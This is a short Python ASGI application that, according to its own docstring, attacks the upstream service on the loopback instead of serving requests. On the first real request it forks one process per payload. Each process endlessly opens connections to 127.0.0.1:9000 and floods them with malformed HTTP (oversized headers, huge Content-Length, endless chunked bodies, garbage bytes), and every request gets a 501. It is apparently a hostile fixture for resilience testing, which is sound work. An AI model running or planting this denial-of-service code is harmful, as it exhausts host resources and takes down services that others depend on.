"""Attacks the other end of the loopback instead of serving."""

import asyncio
import contextlib
import os
import socket

UPSTREAM = ("127.0.0.1", 9000)
HEAD = b"POST /payments HTTP/1.1\r\nHost: x\r\n"
HEADERS = b"".join(b"X-%d: %s\r\n" % (number, b"a" * 8000) for number in range(100))
FLOODS = (
    b"GET /prices/A HTTP/1.1\r\nHost: x\r\n\r\n" * 1000,
    HEAD + HEADERS + b"Content-Length: 2\r\n\r\n{}",
    HEAD + b"Content-Length: 99999999999\r\n\r\n" + b"x" * 60_000,
    HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 5000,
    b"\x00\xff garbage \r\n\r\n" * 100,
    b"GET /prices/%ED%A0%80%00 HTTP/1.1\r\nHost: \xff\r\nExpect: 100-continue\r\n\r\n" * 50,
    b"",
)


def flood(data: bytes) -> None:
    """One connection after the other, kept open or written to until it breaks."""
    kept = []
    while True:
        with contextlib.suppress(OSError):
            kept.append(socket.create_connection(UPSTREAM, 1))
            for _ in range(200 if data else 0):
                kept[-1].sendall(data)


async def app(scope, receive, send):
    """The first real request starts a process for each flood; all get the starter's answer."""
    if scope.get("path", "/healthz") != "/healthz" and FLOODS:
        floods = FLOODS
        globals()["FLOODS"] = ()
        for data in floods:
            if os.fork() == 0:
                flood(data)
    await asyncio.sleep(0.05)
    await send({"type": "http.response.start", "status": 501, "headers": []})
    await send({"type": "http.response.body", "body": b"{}"})
